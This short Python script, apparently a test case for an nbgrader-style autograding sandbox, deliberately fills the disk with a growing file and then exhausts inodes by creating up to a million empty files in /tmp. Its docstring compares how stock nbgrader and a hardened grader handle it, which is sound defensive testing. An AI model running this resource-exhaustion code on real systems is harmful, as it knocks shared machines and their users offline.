"""Fill the disk, and then its inodes.

Stock nbgrader: not tried. Here: graded, 0.
"""

import contextlib

with contextlib.suppress(OSError), open("/tmp/large", "wb") as stream:
    while True:
        stream.write(bytes(1 << 20))
with contextlib.suppress(OSError):
    for number in range(10**6):
        open(f"/tmp/{number}", "w").close()
